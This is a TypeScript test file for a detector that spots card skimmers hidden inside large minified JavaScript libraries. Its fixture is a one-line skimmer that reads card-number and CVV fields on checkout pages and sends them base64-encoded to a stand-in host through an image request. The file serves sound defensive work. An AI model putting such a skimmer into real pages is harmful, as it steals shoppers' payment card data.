import { describe, expect, it } from 'vitest';
import { planOf } from './first-pass.ts';
import { scan } from './lexer.ts';
import { profileText } from './profile-text.ts';

const PARASITE = `(function(){var c=document.getElementById('card-number').value+document.getElementById('cvv').value;if(/checkout/.test(location.href))new Image().src='https://metrics.strange-host.localhost/p.gif?d='+btoa(c)})()`;

/** Statements of a library without a line break, of all kinds between which something may be put. */
const BEFORE = `function a(e,t){for(var n=0;n<e.length;n++)if(e[n]===t)return n;return-1}var b=[function(e){return e+1},{k:function(){return"}"},m:/[;{]/}],c=\`x\${b.length};y\`,d=function(){return function(){return 1}}(),E=class{f(){return 1}g(e){switch(e){case 1:return 2;default:return 3}}};`;
const MANY = BEFORE.repeat(150);

function library(inside: string): string {
  return `!function(g,f){"object"==typeof exports?f(exports):f(g.Lib={})}(this,function(exports){"use strict";${MANY}${inside}${MANY}exports.a=a});`;
}

describe('what was put into the middle of a library', () => {
  it.each([
    ['between statements', `;${PARASITE};`],
    ['on a line of its own', `\n${PARASITE}\n`],
    ['between two expressions', `;a(1),${PARASITE},a(2);`],
    ['in a list of variables', `;var x1=a(1),x2=${PARASITE},x3=a(3);`],
  ])('is found %s', (_, inside) => {
    const text = library(inside);
    expect(text.length).toBeGreaterThan(80_000);
    expect(profileText(text).verdict).toBe('skimmer');
  });

  it('is cut out of it, so that most of the library is not parsed', () => {
    const text = library(`;${PARASITE};`);
    const plan = planOf(text, scan(text));
    if (plan.kind !== 'pieces') throw new Error(plan.kind);
    const at = text.indexOf(PARASITE);
    const pieces = [...plan.pieces];
    const around = pieces.find(({ start, end }) => start <= at && end >= at + PARASITE.length);
    expect(typeof around?.parsed).toBe('object');
    expect(pieces.reduce((sum, { start, end }) => sum + end - start, 0)).toBeLessThan(40_000);
  });

  it('is found behind more than there is room to read of what many libraries do', () => {
    const ordinary = `${BEFORE.repeat(50)}function u(e){return fetch("/s?q="+encodeURIComponent(e))}`;
    const text = library(`;${ordinary.repeat(40)};${PARASITE};`);
    expect(profileText(text).verdict).toBe('skimmer');
  });

  it('is nothing where nothing was put', () => {
    expect(profileText(library(';')).verdict).toBe('clean');
  });
});
